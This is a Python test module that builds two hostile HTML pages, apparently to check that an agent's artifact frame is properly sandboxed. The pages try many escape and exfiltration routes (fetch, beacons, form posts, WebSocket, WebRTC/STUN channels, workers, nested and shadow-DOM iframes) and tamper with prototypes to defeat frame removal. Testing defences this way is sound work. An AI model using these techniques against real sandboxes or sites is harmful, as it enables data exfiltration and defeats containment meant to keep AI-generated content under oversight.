"""A page of the agent that tries everything to escape from its frame, and reports the results."""

_PAGE = """<!doctype html><title>Report</title>
<h1>Report</h1><p id="report">not yet</p>
<link rel="stylesheet" href="STRANGER/style.css"><link rel="preload" as="image" href="STRANGER/preload.png">
<link rel="prefetch" href="STRANGER/prefetch"><img src="STRANGER/image.png" alt="">
<iframe src="STRANGER/frame"></iframe><div><template shadowrootmode="closed"><iframe srcdoc="<script>
new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }).createDataChannel('stolen')</script>">
</iframe></template></div><object data="STRANGER/object"></object>
<form id="form" action="STRANGER/form" method="post"><input name="stolen" value="all"></form>
<a id="link" href="STRANGER/link" target="_blank" ping="STRANGER/ping">out</a>
<style>@import url("STRANGER/import.css"); h1 { background: url("STRANGER/background.png") }</style>
<script>
const tell = (what, attempt) => {
  try { return attempt() === true ? `${what} open` : `${what} closed`; } catch { return `${what} closed`; }
};
const ask = (what, attempt) => Promise.resolve().then(attempt).then(() => `${what} open`, () => `${what} closed`);
const settle = (make) => new Promise((done, fail) => { make(done, fail); setTimeout(fail, 4000); });
const byStun = (done, fail) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
  peer.createDataChannel("stolen");
  peer.onicecandidate = ({ candidate }) => { if (candidate === null) fail(); };
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(fail);
};
const bySocket = (done, fail) => {
  const socket = new WebSocket("ws://127.0.0.1:PORT/");
  socket.onopen = done;
  socket.onerror = fail;
};
const byNestedPage = (done, fail) => {
  const inner = document.createElement("iframe");
  const script = `<script>(${byStun})(() => {}, () => {}); fetch("STRANGER/nested")<` + `/script>`;
  inner.srcdoc = `${script}<img src="STRANGER/nested.png">`;
  inner.onload = fail;
  document.createElement("div").attachShadow({ mode: "closed" }).append(inner.cloneNode());
  document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).append(inner.cloneNode());
  document.body.append(inner);
};
const now = [
  tell("parent", () => parent.document.title !== undefined),
  tell("storage", () => { localStorage.setItem("hurt", "1"); return true; }),
  tell("cookies", () => { document.cookie = "hurt=1"; return document.cookie !== ""; }),
  tell("window", () => window.open("STRANGER/window") !== null),
  tell("top", () => { top.location.href = "STRANGER/top"; return true; }),
  tell("dialog", () => confirm("hurt?")),
];
document.getElementById("link").click();
document.getElementById("form").submit();
navigator.sendBeacon("STRANGER/beacon", "stolen");
parent.postMessage("artifact-frame", "*");
Promise.all([
  ask("network", () => fetch("STRANGER/fetch", { mode: "no-cors" })),
  ask("our server", () => fetch("/healthz")),
  ask("sockets", () => settle(bySocket)),
  ask("peers", () => settle(byStun)),
  ask("nested pages", () => settle(byNestedPage)),
  ask("workers", () => settle((done, fail) => {
    const script = `fetch("STRANGER/worker").then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([script])));
    worker.onmessage = done;
    worker.onerror = fail;
  })),
]).then((later) => {
  document.getElementById("report").textContent = [`origin ${origin}`, ...now, ...later].join(", ");
  addEventListener("message", () => { location.href = "STRANGER/self"; });
});
</script>
"""


def build_hostile_page(url: str, port: int) -> str:
    """A page that tries to reach the server at `url`, whose port it knows for what is no HTTP."""
    return _PAGE.replace("STRANGER", url).replace("PORT", str(port))


_FRAMES_PAGE = """<!doctype html><title>Frames</title>
<p id="result">not yet</p><div id="place"></div>
<script>
const peer = "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] })";
const source = (name) => `<script>
top.postMessage("${name} runs", "*");
const peer = ${peer};
peer.createDataChannel("stolen");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
<` + "/script>";
const place = document.getElementById("place");
const build = (name) => {
  const frame = document.createElement("iframe");
  frame.srcdoc = source(name);
  return frame;
};
const host = () => place.appendChild(document.createElement("div"));
const tree = `<div><template ${"shadow" + "rootmode"}="open"><p></p></template></div>`;
const attempts = {
  "clone of a shadow root": () => {
    const root = document.createElement("div").attachShadow({ mode: "open", clonable: true });
    const copy = root.host.cloneNode();
    place.append(copy);
    copy.shadowRoot.append(build("clone of a shadow root"));
  },
  "clone by an inherited option": () => {
    Object.prototype.clonable = true;
    const root = document.createElement("div").attachShadow({ mode: "closed" });
    delete Object.prototype.clonable;
    root.append(build("clone by an inherited option"));
    place.append(root.host.cloneNode(true));
  },
  "shadow root of clean text": () => {
    const outer = host();
    outer.setHTML(tree, { sanitizer: { elements: ["div", "template", "p"], attributes: ["shadow" + "rootmode"] } });
    outer.firstChild.shadowRoot.append(build("shadow root of clean text"));
  },
  "shadow root of any text": () => {
    const outer = host();
    outer.setHTMLUnsafe(tree);
    outer.firstChild.shadowRoot.append(build("shadow root of any text"));
  },
  "bad inherited options": () => {
    const outer = host();
    Object.assign(Object.prototype, { attributes: false, attributeFilter: ["x"] });
    try { outer.attachShadow({ mode: "open" }); } catch { /* it may exist none the less */ }
    delete Object.prototype.attributes;
    delete Object.prototype.attributeFilter;
    outer.shadowRoot.append(build("bad inherited options"));
  },
  "no stack left": () => {
    const hosts = [];
    const dive = () => {
      try { dive(); } catch { /* each level on the way back has a little more */ }
      const outer = document.createElement("div");
      hosts.push(outer);
      outer.attachShadow({ mode: "open" });
    };
    try { dive(); } catch { /* the last level */ }
    for (const outer of hosts.filter((each) => each.shadowRoot).slice(0, 50)) {
      place.append(outer);
      outer.shadowRoot.append(build("no stack left"));
    }
  },
  "new document": () => {
    document.open();
    document.append(build("new document"));
  },
  "observe": () => {
    MutationObserver.prototype.observe = () => {};
    host().attachShadow({ mode: "open" }).append(build("observe"));
  },
  "call": () => {
    let real = null;
    Function.prototype.call = function call(self, ...rest) {
      real ??= this;
      return Reflect.apply(this, self, rest);
    };
    host().attachShadow({ mode: "open" });
    const outer = host();
    Reflect.apply(real ?? outer.attachShadow, outer, [{ mode: "open" }]).append(build("call"));
  },
  "methods of the document": () => {
    document.querySelectorAll = () => [];
    document.querySelector = () => null;
    Element.prototype.remove = () => {};
    place.append(build("methods of the document"));
  },
  "methods of everything": () => {
    for (const owner of [Document.prototype, DocumentFragment.prototype, Element.prototype]) {
      for (const name of ["querySelectorAll", "querySelector"]) owner[name] = () => null;
    }
    Node.prototype.removeChild = NodeList.prototype.item = () => null;
    NodeList.prototype[Symbol.iterator] = Array.prototype[Symbol.iterator] = function* none() {};
    window.queueMicrotask = () => {};
    Reflect.apply = Function.prototype.apply = Function.prototype.call = Function.prototype.bind = () => null;
    place.append(build("methods of everything"));
    host().attachShadow({ mode: "closed" }).append(build("methods of everything"));
  },
};
for (const name in attempts) {
  try { attempts[name](); } catch { /* closed in another way */ }
}
setTimeout(() => { document.getElementById("result").textContent = "all tried"; }, 2000);
</script>
"""


def build_frames_page(port: int) -> str:
    """A page that tries to keep a frame whose script opens peer connections and reports them to the top window."""
    return _FRAMES_PAGE.replace("PORT", str(port))
